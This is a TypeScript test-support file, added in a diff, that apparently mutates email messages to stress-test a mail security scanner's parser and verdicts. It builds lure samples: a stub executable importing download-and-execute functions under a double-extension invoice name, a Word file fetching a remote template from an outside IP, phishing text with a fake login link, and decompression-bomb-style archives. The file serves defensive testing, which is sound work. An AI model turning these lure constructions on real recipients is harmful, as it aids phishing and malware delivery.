@@ -1,0 +1,646 @@
+/**
+ * Structured mutations of real mail for the mutation sweep (bench/mutations.ts): truncation at chosen points, broken and
+ * duplicated boundaries, nesting, huge and colon-less header lines, line endings, control bytes, broken charsets and
+ * transfer encodings, broken RFC 2047 words and encoded-word bombs, hostile HTML and malformed archives and documents.
+ *
+ * Each mutation is a pure function of the message's bytes and a seeded generator (`rng`), so a run is the same every
+ * time. A mutation gives the message to compare against (`original`: the message itself, or the message carrying a
+ * well-formed attachment that the mutation then breaks) and the mutated message, or null when it does not apply (no
+ * multipart to break, no base64 to cut). `keeps` says the mutation leaves what makes the message a lure in place (it adds,
+ * duplicates, re-encodes or breaks something else): a phishing or malware original must then keep or raise its verdict.
+ * A mutation that may cut the lure away (truncation, a part moved into the preamble) is measured for crashes, time and
+ * memory only; its lowered verdicts are counted, not held.
+ */
+import { gzipSync } from 'node:zlib';
+import { buildPe } from '../../src/files/test-support/pe-builder.js';
+import { buildPdf } from '../../src/files/test-support/pdf-builder.js';
+import { buildZip } from '../../src/files/test-support/zip-builder.js';
+import { parseMessage } from '../../src/mail/parse/index.js';
+import { DEFAULT_PARSE_OPTIONS } from '../../src/mail/parse/test-helpers.js';
+import { attachmentPart, editHtmlParts, nested, withParts } from '../../src/test-support/evasions.js';
+
+const CRLF = '\r\n';
+
+/** mulberry32: a small, fast, well-spread 32-bit generator; the sweep's only source of chance. */
+export function rngFrom(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+/** FNV-1a of a string: the per-(message, mutation) seed. */
+export function hashSeed(...parts: (string | number)[]): number {
+  let h = 0x811c9dc5;
+  for (const ch of parts.join('\u0000')) {
+    h ^= ch.charCodeAt(0);
+    h = Math.imul(h, 0x01000193);
+  }
+  return h >>> 0;
+}
+
+type Rng = () => number;
+const between = (rng: Rng, lo: number, hi: number): number => lo + Math.floor(rng() * Math.max(1, hi - lo));
+
+/** Offset of the header block's end (the empty line), or the length when there is none. */
+export function headerEnd(raw: Buffer): number {
+  const a = raw.indexOf('\n\n');
+  const b = raw.indexOf('\r\n\r\n');
+  const c = [a, b].filter((x) => x >= 0);
+  return c.length ? Math.min(...c) : raw.length;
+}
+
+/** Every boundary parameter declared anywhere in the message (top level and nested), at most 16. */
+function boundaries(raw: Buffer): string[] {
+  const text = raw.toString('latin1');
+  const out = new Set<string>();
+  const re = /boundary\s*=\s*(?:"([^"\r\n]{1,200})"|([^\s;"]{1,200}))/gi;
+  for (let m = re.exec(text); m && out.size < 16; m = re.exec(text)) out.add(m[1] ?? m[2]!);
+  return [...out];
+}
+
+/** [start, end] of the delimiter lines of `boundary` (start of `--b`, end of its line without the break). */
+function delimiterLines(raw: Buffer, boundary: string): [number, number][] {
+  const marker = Buffer.from(`--${boundary}`, 'latin1');
+  const out: [number, number][] = [];
+  for (let at = raw.indexOf(marker); at >= 0 && out.length < 2000; at = raw.indexOf(marker, at + marker.length)) {
+    if (at > 0 && raw[at - 1] !== 0x0a && raw[at - 1] !== 0x0d) continue;
+    let end = raw.indexOf(0x0a, at);
+    if (end < 0) end = raw.length;
+    if (raw[end - 1] === 0x0d) end--;
+    out.push([at, end]);
+  }
+  return out;
+}
+
+/** Lines (start, end without break) of the body. */
+function lines(raw: Buffer, from = 0): [number, number][] {
+  const out: [number, number][] = [];
+  let pos = from;
+  while (pos < raw.length) {
+    const nl = raw.indexOf(0x0a, pos);
+    let end = nl < 0 ? raw.length : nl;
+    if (raw[end - 1] === 0x0d) end--;
+    out.push([pos, end]);
+    if (nl < 0) break;
+    pos = nl + 1;
+  }
+  return out;
+}
+
+const BASE64_LINE = /^[A-Za-z0-9+/]{40,}={0,2}$/;
+
+/** Runs of at least 4 consecutive base64 lines: [start of the first, end of the last]. */
+function base64Runs(raw: Buffer): [number, number][] {
+  const runs: [number, number][] = [];
+  let start = -1;
+  let last = -1;
+  let count = 0;
+  for (const [s, e] of lines(raw, headerEnd(raw))) {
+    if (e - s <= 120 && BASE64_LINE.test(raw.subarray(s, e).toString('latin1'))) {
+      if (start < 0) start = s;
+      last = e;
+      count++;
+    } else {
+      if (count >= 4) runs.push([start, last]);
+      start = -1;
+      count = 0;
+    }
+  }
+  if (count >= 4) runs.push([start, last]);
+  return runs;
+}
+
+function cut(raw: Buffer, at: number): Buffer {
+  return Buffer.from(raw.subarray(0, Math.max(0, Math.min(raw.length, at))));
+}
+
+function insertAt(raw: Buffer, at: number, bytes: Buffer | string): Buffer {
+  return Buffer.concat([raw.subarray(0, at), Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'latin1'), raw.subarray(at)]);
+}
+
+/** Offset of the From field's line (or of the first field). */
+function fromLine(raw: Buffer): number {
+  const head = raw.subarray(0, headerEnd(raw)).toString('latin1');
+  const m = /^from[ \t]*:/im.exec(head);
+  return m ? m.index : 0;
+}
+
+/**
+ * Rewrites every line ending: `eol(i)` gives the break for line i. A CR ending before an empty line ended by LF would make
+ * one CRLF of the two (the empty line, the header's end, would vanish): that empty line is ended by CRLF instead.
+ */
+function reEnd(raw: Buffer, eol: (i: number) => string): Buffer {
+  const chunks: Buffer[] = [];
+  const all = lines(raw);
+  const ends = all.map((_, i) => eol(i));
+  for (let i = 0; i + 1 < all.length; i++) if (ends[i] === '\r' && all[i + 1]![0] === all[i + 1]![1] && ends[i + 1] === '\n') ends[i + 1] = '\r\n';
+  all.forEach(([s, e], i) => {
+    chunks.push(raw.subarray(s, e));
+    // A final line without a break keeps none; a lone CR inside a line is left as it was.
+    if (i < all.length - 1 || raw[raw.length - 1] === 0x0a) chunks.push(Buffer.from(ends[i]!, 'latin1'));
+  });
+  return Buffer.concat(chunks);
+}
+
+/** The message's header fields as written, and its body (after the empty line). */
+function split(raw: Buffer): { head: string; body: Buffer; sep: string } {
+  const end = headerEnd(raw);
+  const sep = raw[end] === 0x0d ? '\r\n\r\n' : '\n\n';
+  return { head: raw.subarray(0, end).toString('latin1'), body: raw.subarray(Math.min(raw.length, end + sep.length)), sep };
+}
+
+/** Content-Transfer-Encoding of the parts encoded `encoding`: [start, end] of each body (from a header's empty line to the next delimiter). */
+function encodedBodies(raw: Buffer, encoding: RegExp): [number, number][] {
+  const text = raw.toString('latin1');
+  const out: [number, number][] = [];
+  const re = /^content-transfer-encoding[ \t]*:[ \t]*([^\r\n]*)/gim;
+  for (let m = re.exec(text); m && out.length < 64; m = re.exec(text)) {
+    if (!encoding.test(m[1]!.trim())) continue;
+    const blank = /\r?\n\r?\n/g;
+    blank.lastIndex = m.index;
+    const b = blank.exec(text);
+    if (!b) continue;
+    const start = b.index + b[0].length;
+    const next = text.indexOf('\n--', start);
+    const end = next < 0 ? text.length : next;
+    if (end > start) out.push([start, end]);
+  }
+  return out;
+}
+
+/** The Subject as the parser reads it (encoded words and 8-bit bytes decoded), or '' when the message does not parse. */
+function decodedSubject(raw: Buffer): string {
+  try {
+    return parseMessage(raw, DEFAULT_PARSE_OPTIONS).subject;
+  } catch {
+    return '';
+  }
+}
+
+/** Replaces the Subject field (first one) by `field` (a whole line without break), or inserts it before From. */
+function withSubject(raw: Buffer, field: (old: string) => string): Buffer {
+  const { head, body, sep } = split(raw);
+  const m = /^subject[ \t]*:([^\r\n]*(?:\r?\n[ \t][^\r\n]*)*)/im.exec(head);
+  const eol = head.includes('\r\n') ? '\r\n' : '\n';
+  const newHead = m ? head.slice(0, m.index) + field(m[1]!.replace(/\r?\n[ \t]/g, ' ').trim()) + head.slice(m.index + m[0].length) : `${field('')}${eol}${head}`;
+  return Buffer.concat([Buffer.from(newHead + sep, 'latin1'), body]);
+}
+
+/** The message's own content (what follows its content fields) as a part: for wrapping it in multiparts. */
+function contentAsPart(raw: Buffer): { outer: string; part: Buffer } {
+  const { head, body } = split(raw);
+  const outer: string[] = [];
+  const content: string[] = [];
+  let target = outer;
+  for (const line of head.split(/\r?\n/)) {
+    if (line === '') continue;
+    if (!/^[ \t]/.test(line)) target = /^(content-[a-z-]+|mime-version)\s*:/i.test(line) ? content : outer;
+    target.push(line);
+  }
+  const ownContent = content.filter((l) => !/^mime-version/i.test(l)).join(CRLF) || 'Content-Type: text/plain';
+  return { outer: outer.join(CRLF), part: Buffer.concat([Buffer.from(ownContent + CRLF + CRLF, 'latin1'), body]) };
+}
+
+/** The message's content as the last part after `filler` tiny parts, or `levels` multiparts deep. */
+function wrapped(raw: Buffer, levels: number, filler = 0): Buffer {
+  const { outer, part } = contentAsPart(raw);
+  const boundary = '=_mutation_outer_5c1d';
+  const tiny = Buffer.from(`Content-Type: text/plain; charset=us-ascii${CRLF}${CRLF}.`, 'latin1');
+  const chunks: Buffer[] = [Buffer.from(`${outer}${CRLF}MIME-Version: 1.0${CRLF}Content-Type: multipart/mixed; boundary="${boundary}"${CRLF}${CRLF}`, 'latin1')];
+  for (let i = 0; i < filler; i++) chunks.push(Buffer.from(`--${boundary}${CRLF}`), tiny, Buffer.from(CRLF));
+  chunks.push(Buffer.from(`--${boundary}${CRLF}`), levels > 0 ? nested(part, levels) : part, Buffer.from(`${CRLF}--${boundary}--${CRLF}`));
+  return Buffer.concat(chunks);
+}
+
+// ---------------------------------------------------------------------------------------------------------------
+// Payloads for the attachment mutations: each has a well-formed form (the original carries it) and a broken one.
+
+const PE = buildPe({ imports: { 'urlmon.dll': ['URLDownloadToFileA'], 'kernel32.dll': ['WinExec'] } });
+const EXE_NAME = 'Invoice_0423.pdf.exe';
+
+function zipWithExe(): Buffer {
+  return buildZip([{ name: 'readme.txt', data: 'Open the invoice.' }, { name: EXE_NAME, data: PE }]);
+}
+
+/** End of central directory offset (last EOCD signature). */
+function eocdAt(zip: Buffer): number {
+  return zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
+}
+function centralAt(zip: Buffer): number {
+  return zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
+}
+
+const DOCX_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Your account is locked. Enable editing and verify at http://login-secure-verify.example.top/</w:t></w:r></w:p></w:body></w:document>';
+const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
+const RELS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/template.dotm" TargetMode="External"/></Relationships>';
+
+function docx(): Buffer {
+  return buildZip([
+    { name: '[Content_Types].xml', data: CONTENT_TYPES },
+    { name: 'word/document.xml', data: DOCX_XML },
+    { name: 'word/_rels/settings.xml.rels', data: RELS },
+  ]);
+}
+
+function pdfWithLink(): Buffer {
+  return buildPdf({ content: 'BT /F1 12 Tf 72 712 Td (Your mailbox is full. Verify now) Tj ET', links: [{ uri: 'http://login-secure-verify.example.top/owa', rect: [72, 700, 300, 720] }] });
+}
+
+function zipPart(name: string, data: Buffer, type = 'application/zip'): Buffer {
+  return attachmentPart(name, data, type);
+}
+
+export interface Mutation {
+  name: string;
+  description: string;
+  /** The lure is left in place: a phishing or malware original must keep or raise its verdict. */
+  keeps: boolean;
+  /** The message to compare against (default: the message itself). */
+  original?: (raw: Buffer) => Buffer;
+  mutate: (raw: Buffer, rng: Rng) => Buffer | null;
+}
+
+const DOCX_NAME = 'Statement_0423.docx';
+const PDF_NAME = 'Statement_0423.pdf';
+
+export const MUTATIONS: Mutation[] = [
+  // --- truncation -------------------------------------------------------------------------------------------
+  { name: 'trunc-header', description: 'cut inside the header block', keeps: false, mutate: (raw, rng) => cut(raw, between(rng, 1, headerEnd(raw))) },
+  {
+    name: 'trunc-boundary',
+    description: 'cut inside a boundary delimiter line',
+    keeps: false,
+    mutate: (raw, rng) => {
+      const lines = boundaries(raw).flatMap((b) => delimiterLines(raw, b));
+      if (!lines.length) return null;
+      const [s, e] = lines[between(rng, 0, lines.length)]!;
+      return cut(raw, between(rng, s + 1, e));
+    },
+  },
+  {
+    name: 'trunc-base64',
+    description: 'cut inside a base64 body (not on a 4-character group)',
+    keeps: false,
+    mutate: (raw, rng) => {
+      const runs = base64Runs(raw);
+      if (!runs.length) return null;
+      const [s, e] = runs[between(rng, 0, runs.length)]!;
+      let at = between(rng, s + 1, e);
+      if ((at - s) % 4 === 0) at++;
+      return cut(raw, at);
+    },
+  },
+  {
+    name: 'trunc-multibyte',
+    description: 'cut after the lead byte of a multibyte character',
+    keeps: false,
+    mutate: (raw, rng) => {
+      const leads: number[] = [];
+      for (let i = headerEnd(raw); i < raw.length - 1 && leads.length < 500; i++) if (raw[i]! >= 0xc2 && raw[i]! <= 0xf4 && (raw[i + 1]! & 0xc0) === 0x80) leads.push(i);
+      if (!leads.length) for (let i = 0; i < raw.length && leads.length < 500; i++) if (raw[i]! >= 0x80) leads.push(i);
+      if (!leads.length) return null;
+      return cut(raw, leads[between(rng, 0, leads.length)]! + 1);
+    },
+  },
+  { name: 'trunc-random', description: 'cut at a random point of the second half', keeps: false, mutate: (raw, rng) => cut(raw, between(rng, Math.floor(raw.length / 2), raw.length)) },
+  // --- boundaries and nesting ---------------------------------------------------------------------------------
+  {
+    name: 'boundary-duplicated',
+    description: 'every delimiter line written twice (an empty part before each)',
+    keeps: true,
+    mutate: (raw) => {
+      const lines = boundaries(raw).flatMap((b) => delimiterLines(raw, b)).sort((a, b) => b[0] - a[0]);
+      if (!lines.length) return null;
+      let out = raw;
+      for (const [s, e] of lines) out = insertAt(out, s, Buffer.concat([out.subarray(s, e), Buffer.from(CRLF)]));
+      return out;
+    },
+  },
+  {
+    name: 'boundary-no-close',
+    description: 'the closing delimiters (`--b--`) removed',
+    keeps: true,
+    mutate: (raw) => {
+      const lines = boundaries(raw)
+        .flatMap((b) => delimiterLines(raw, b).filter(([s, e]) => raw.subarray(s, e).toString('latin1').trimEnd() === `--${b}--`))
+        .sort((a, b) => b[0] - a[0]);
+      if (!lines.length) return null;
+      let out = raw;
+      for (const [s, e] of lines) out = Buffer.concat([out.subarray(0, s), out.subarray(e)]);
+      return out;
+    },
+  },
+  {
+    name: 'boundary-first-missing',
+    description: 'the first delimiter line removed (the first part falls into the preamble)',
+    keeps: false,
+    mutate: (raw) => {
+      const b = boundaries(raw)[0];
+      const first = b === undefined ? undefined : delimiterLines(raw, b)[0];
+      if (!first) return null;
+      return Buffer.concat([raw.subarray(0, first[0]), raw.subarray(first[1])]);
+    },
+  },
+  { name: 'nest-10', description: 'the content 10 multiparts deep (within the depth limit)', keeps: true, mutate: (raw) => wrapped(raw, 10) },
+  { name: 'nest-30', description: 'the content 30 multiparts deep (past the depth limit of 20)', keeps: true, mutate: (raw) => wrapped(raw, 30) },
+  { name: 'nest-2000', description: 'the content 2,000 multiparts deep', keeps: true, mutate: (raw) => wrapped(raw, 2000) },
+  { name: 'parts-600-before', description: 'the content after 600 tiny parts (past the part limit of 500)', keeps: true, mutate: (raw) => wrapped(raw, 0, 600) },
+  // --- header ---------------------------------------------------------------------------------------------------
+  { name: 'header-huge-line', description: 'a 1 MiB unfolded header line before From', keeps: true, mutate: (raw) => insertAt(raw, fromLine(raw), `X-Filler: ${'a'.repeat(1 << 20)}${CRLF}`) },
+  { name: 'header-huge-subject', description: '200 KB of words appended to the Subject', keeps: true, mutate: (raw) => withSubject(raw, (old) => `Subject: ${old} ${'lorem ipsum dolor '.repeat(11_000)}`) },
+  {
+    name: 'header-no-colon',
+    description: 'lines without a colon before From and at the end of the header',
+    keeps: true,
+    mutate: (raw) => {
+      const end = headerEnd(raw);
+      const withEnd = insertAt(raw, end, `${CRLF}this line has no colon at all`);
+      return insertAt(withEnd, fromLine(withEnd), `garbage without colon${CRLF}another junk line${CRLF}`);
+    },
+  },
+  {
+    name: 'header-many-fields',
+    description: '20,000 short fields before From (past the header limit)',
+    keeps: true,
+    mutate: (raw) => insertAt(raw, fromLine(raw), Array.from({ length: 20_000 }, (_, i) => `X-F${i}: v${CRLF}`).join('')),
+  },
+  // --- line endings ---------------------------------------------------------------------------------------------
+  { name: 'eol-lf', description: 'every line ending LF only', keeps: true, mutate: (raw) => reEnd(raw, () => '\n') },
+  { name: 'eol-crlf', description: 'every line ending CRLF', keeps: true, mutate: (raw) => reEnd(raw, () => '\r\n') },
+  { name: 'eol-cr', description: 'every line ending CR only', keeps: true, mutate: (raw) => reEnd(raw, () => '\r') },
+  {
+    name: 'eol-mixed',
+    description: 'line endings drawn from CRLF, LF and CR per line',
+    keeps: true,
+    mutate: (raw, rng) => reEnd(raw, () => ['\r\n', '\n', '\r'][between(rng, 0, 3)]!),
+  },
+  {
+    name: 'eol-mixed-crlf-lf',
+    description: 'line endings drawn from CRLF and LF per line',
+    keeps: true,
+    mutate: (raw, rng) => reEnd(raw, () => (rng() < 0.5 ? '\r\n' : '\n')),
+  },
+  // --- control bytes --------------------------------------------------------------------------------------------
+  {
+    name: 'nul-header-values',
+    description: 'a NUL inside every header value',
+    keeps: true,
+    mutate: (raw) => {
+      const end = headerEnd(raw);
+      const head = raw.subarray(0, end).toString('latin1').replace(/^([!-9;-~]+:[ \t]*[^\r\n]{2})/gm, '$1\u0000');
+      return Buffer.concat([Buffer.from(head, 'latin1'), raw.subarray(end)]);
+    },
+  },
+  {
+    name: 'nul-line-ends',
+    description: 'a NUL before every line break of the body',
+    keeps: true,
+    mutate: (raw) => {
+      const { head, sep, body } = split(raw);
+      return Buffer.concat([Buffer.from(head + sep, 'latin1'), Buffer.from(body.toString('latin1').replace(/(\r?\n)/g, '\u0000$1'), 'latin1')]);
+    },
+  },
+  {
+    name: 'control-bytes-random',
+    description: '64 control bytes (C0 but tab and breaks, DEL) at random places',
+    keeps: false,
+    mutate: (raw, rng) => {
+      const out = Buffer.from(raw);
+      const ctl = [0, 1, 2, 3, 4, 5, 6, 7, 8, 0x0b, 0x0c, 0x0e, 0x0f, 0x10, 0x1b, 0x1f, 0x7f];
+      for (let i = 0; i < 64; i++) out[between(rng, 0, out.length)] = ctl[between(rng, 0, ctl.length)]!;
+      return out;
+    },
+  },
+  // --- charsets and transfer encodings --------------------------------------------------------------------------
+  {
+    name: 'charset-unknown',
+    description: 'every charset parameter named x-unknown-9 (or added)',
+    keeps: true,
+    mutate: (raw) => {
+      const text = raw.toString('latin1');
+      const out = /charset\s*=/i.test(text)
+        ? text.replace(/charset\s*=\s*("[^"\r\n]*"|[^\s;]+)/gi, 'charset="x-unknown-9"')
+        : text.replace(/^(content-type[ \t]*:[ \t]*text\/[a-z]+)/im, '$1; charset=x-unknown-9');
+      return out === text ? null : Buffer.from(out, 'latin1');
+    },
+  },
+  {
+    name: 'charset-utf16',
+    description: 'every charset parameter named utf-16 (the bytes stay 8-bit)',
+    keeps: false,
+    mutate: (raw) => {
+      const text = raw.toString('latin1');
+      const out = text.replace(/charset\s*=\s*("[^"\r\n]*"|[^\s;]+)/gi, 'charset=utf-16');
+      return out === text ? null : Buffer.from(out, 'latin1');
+    },
+  },
+  {
+    name: 'base64-garbage',
+    description: 'characters outside the base64 alphabet (!, *, blanks, NUL, -) inside base64 lines',
+    keeps: true,
+    mutate: (raw, rng) => {
+      const runs = base64Runs(raw);
+      if (!runs.length) return null;
+      const junk = ['!', '*', ' ', '\t', '\0', '-', '#', '\u00a0'];
+      let out = raw;
+      const points: number[] = [];
+      for (const [s, e] of runs) for (let i = 0; i < 40; i++) points.push(between(rng, s, e));
+      for (const at of points.sort((a, b) => b - a)) out = insertAt(out, at, junk[between(rng, 0, junk.length)]!);
+      return out;
+    },
+  },
+  {
+    name: 'base64-one-dropped',
+    description: 'one base64 character dropped (every later group shifted)',
+    keeps: false,
+    mutate: (raw, rng) => {
+      const runs = base64Runs(raw);
+      if (!runs.length) return null;
+      const [s, e] = runs[between(rng, 0, runs.length)]!;
+      const at = between(rng, s, e);
+      if (raw[at] === 0x0d || raw[at] === 0x0a) return null;
+      return Buffer.concat([raw.subarray(0, at), raw.subarray(at + 1)]);
+    },
+  },
+  {
+    name: 'qp-broken',
+    description: 'quoted-printable bodies ending in invalid escapes (=ZZ, =4) and a soft break (`=`) at the very end',
+    keeps: true,
+    mutate: (raw) => {
+      const bodies = encodedBodies(raw, /quoted-printable/i);
+      if (!bodies.length) return null;
+      let out = raw;
+      // At the end only: an escape inside a tag or a URL would change what the message says or links to.
+      for (const [s, e] of bodies.sort((a, b) => b[0] - a[0])) {
+        let end = e;
+        while (end > s && (out[end - 1] === 0x0a || out[end - 1] === 0x0d)) end--;
+        out = insertAt(out, end, ' =ZZ =4 =');
+      }
+      return out;
+    },
+  },
+  // --- RFC 2047 -------------------------------------------------------------------------------------------------
+  {
+    name: 'rfc2047-split',
+    description: 'the Subject as B words split inside a UTF-8 character, then an unterminated word',
+    keeps: true,
+    mutate: (raw) =>
+      withSubject(raw, () => {
+        // The Subject as read (not its raw field: encoded again, an encoded word or 8-bit text would change what it says).
+        const bytes = Buffer.from(`${decodedSubject(raw)} \u2014 \u30a2\u30ab\u30a6\u30f3\u30c8`, 'utf8');
+        const words: string[] = [];
+        for (let i = 0; i < bytes.length; i += 5) words.push(`=?UTF-8?B?${bytes.subarray(i, i + 5).toString('base64')}?=`);
+        return `Subject: ${words.join(`${CRLF} `)} =?utf-8?q?unterminated_wo`;
+      }),
+  },
+  {
+    name: 'rfc2047-bomb',
+    description: '30,000 encoded words after the Subject',
+    keeps: true,
+    mutate: (raw) => withSubject(raw, (old) => `Subject: ${old} ${'=?UTF-8?B?QQ==?= '.repeat(30_000)}`),
+  },
+  {
+    name: 'rfc2047-bomb-from',
+    description: '5,000 encoded words before the From display name (the reader sees them first too)',
+    keeps: false,
+    mutate: (raw) => {
+      const { head, body, sep } = split(raw);
+      const m = /^from[ \t]*:/im.exec(head);
+      if (!m) return null;
+      const newHead = `${head.slice(0, m.index + m[0].length)} ${'=?UTF-8?Q?x?= '.repeat(5000)}${head.slice(m.index + m[0].length)}`;
+      return Buffer.concat([Buffer.from(newHead + sep, 'latin1'), body]);
+    },
+  },
+  // --- HTML -----------------------------------------------------------------------------------------------------
+  {
+    name: 'html-huge-attribute',
+    description: 'a 2 MB attribute value at the start of each HTML part',
+    keeps: true,
+    mutate: (raw) => editHtmlParts(raw, (html) => `<div title="${'x'.repeat(2_000_000)}">&nbsp;</div>${html}`),
+  },
+  {
+    name: 'html-deep-nesting',
+    description: '30,000 nested div elements around each HTML part',
+    keeps: true,
+    mutate: (raw) => editHtmlParts(raw, (html) => `${'<div>'.repeat(30_000)}${html}${'</div>'.repeat(30_000)}`),
+  },
+  {
+    name: 'html-many-attributes',
+    description: 'one element with 50,000 attributes at the start of each HTML part',
+    keeps: true,
+    mutate: (raw) => editHtmlParts(raw, (html) => `<span ${Array.from({ length: 50_000 }, (_, i) => `a${i}="1"`).join(' ')}></span>${html}`),
+  },
+  { name: 'html-unclosed-comment', description: 'an unclosed comment at the end of each HTML part', keeps: true, mutate: (raw) => editHtmlParts(raw, (html) => `${html}<!-- `) },
+  // --- attachments: the original carries the well-formed file, the mutated message the broken one ------------------
+  {
+    name: 'zip-central-truncated',
+    description: 'a zip holding a program, its central directory cut in half and no end record',
+    keeps: true,
+    original: (raw) => withParts(raw, [zipPart('invoice.zip', zipWithExe())]),
+    mutate: (raw) => {
+      const z = zipWithExe();
+      const cd = centralAt(z);
+      return withParts(raw, [zipPart('invoice.zip', z.subarray(0, cd + Math.floor((eocdAt(z) - cd) / 2)))]);
+    },
+  },
+  {
+    name: 'zip-wrong-sizes',
+    description: 'a zip holding a program whose local and central sizes are wrong (compressed 0, size 2^32-1)',
+    keeps: true,
+    original: (raw) => withParts(raw, [zipPart('invoice.zip', zipWithExe())]),
+    mutate: (raw) => {
+      const z = Buffer.from(zipWithExe());
+      for (let at = z.indexOf('PK\u0003\u0004'); at >= 0; at = z.indexOf('PK\u0003\u0004', at + 4)) {
+        z.writeUInt32LE(0, at + 18);
+        z.writeUInt32LE(0xffffffff, at + 22);
+      }
+      for (let at = z.indexOf('PK\u0001\u0002'); at >= 0; at = z.indexOf('PK\u0001\u0002', at + 4)) {
+        z.writeUInt32LE(0, at + 20);
+        z.writeUInt32LE(0xffffffff, at + 24);
+      }
+      return withParts(raw, [zipPart('invoice.zip', z)]);
+    },
+  },
+  {
+    name: 'zip-eocd-lies',
+    description: 'a zip holding a program whose end record claims 65,535 entries at a wrong offset',
+    keeps: true,
+    original: (raw) => withParts(raw, [zipPart('invoice.zip', zipWithExe())]),
+    mutate: (raw) => {
+      const z = Buffer.from(zipWithExe());
+      const e = eocdAt(z);
+      z.writeUInt16LE(0xffff, e + 8);
+      z.writeUInt16LE(0xffff, e + 10);
+      z.writeUInt32LE(0x7fffffff, e + 16);
+      return withParts(raw, [zipPart('invoice.zip', z)]);
+    },
+  },
+  {
+    name: 'zip-local-only',
+    description: 'a zip holding a program cut right after its local entries (no central directory at all)',
+    keeps: true,
+    original: (raw) => withParts(raw, [zipPart('invoice.zip', zipWithExe())]),
+    mutate: (raw) => {
+      const z = zipWithExe();
+      return withParts(raw, [zipPart('invoice.zip', z.subarray(0, centralAt(z)))]);
+    },
+  },
+  {
+    name: 'gzip-truncated',
+    description: 'a gzip of a program cut in half',
+    keeps: true,
+    original: (raw) => withParts(raw, [zipPart('Invoice_0423.exe.gz', gzipSync(PE), 'application/gzip')]),
+    mutate: (raw) => {
+      const g = gzipSync(PE);
+      return withParts(raw, [zipPart('Invoice_0423.exe.gz', g.subarray(0, Math.floor(g.length / 2)), 'application/gzip')]);
+    },
+  },
+  {
+    name: 'pdf-truncated',
+    description: 'a PDF with a link cut before its cross-reference table',
+    keeps: false,
+    original: (raw) => withParts(raw, [zipPart(PDF_NAME, pdfWithLink(), 'application/pdf')]),
+    mutate: (raw) => {
+      const p = pdfWithLink();
+      const x = p.lastIndexOf('xref');
+      return withParts(raw, [zipPart(PDF_NAME, p.subarray(0, x > 0 ? x : Math.floor(p.length / 2)), 'application/pdf')]);
+    },
+  },
+  {
+    name: 'ooxml-central-truncated',
+    description: 'a Word document with an external template, its central directory cut in half',
+    keeps: true,
+    original: (raw) => withParts(raw, [zipPart(DOCX_NAME, docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')]),
+    mutate: (raw) => {
+      const z = docx();
+      const cd = centralAt(z);
+      return withParts(raw, [zipPart(DOCX_NAME, z.subarray(0, cd + Math.floor((eocdAt(z) - cd) / 2)), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')]);
+    },
+  },
+  {
+    name: 'deflate-garbage-entry',
+    description: 'a zip whose program entry is followed by an entry of deflate garbage that claims 1 GiB',
+    keeps: true,
+    original: (raw) => withParts(raw, [zipPart('invoice.zip', zipWithExe())]),
+    mutate: (raw, rng) => {
+      const junk = Buffer.alloc(4096);
+      for (let i = 0; i < junk.length; i++) junk[i] = between(rng, 0, 256);
+      const z = buildZip([{ name: EXE_NAME, data: PE }, { name: 'data.bin', data: junk, method: 0, declaredSize: 1 << 30 }]);
+      // Mark the junk entry as deflated (method 8) in both headers: inflating it fails part-way.
+      const out = Buffer.from(z);
+      const name = Buffer.from('data.bin');
+      for (let at = out.indexOf(name); at >= 0; at = out.indexOf(name, at + 1)) {
+        const local = out.lastIndexOf('PK\u0003\u0004', at);
+        const central = out.lastIndexOf('PK\u0001\u0002', at);
+        if (local >= 0 && at - local === 30) out.writeUInt16LE(8, local + 8);
+        if (central >= 0 && at - central === 46) out.writeUInt16LE(8, central + 10);
+      }
+      return withParts(raw, [zipPart('invoice.zip', out)]);
+    },
+  },
+];
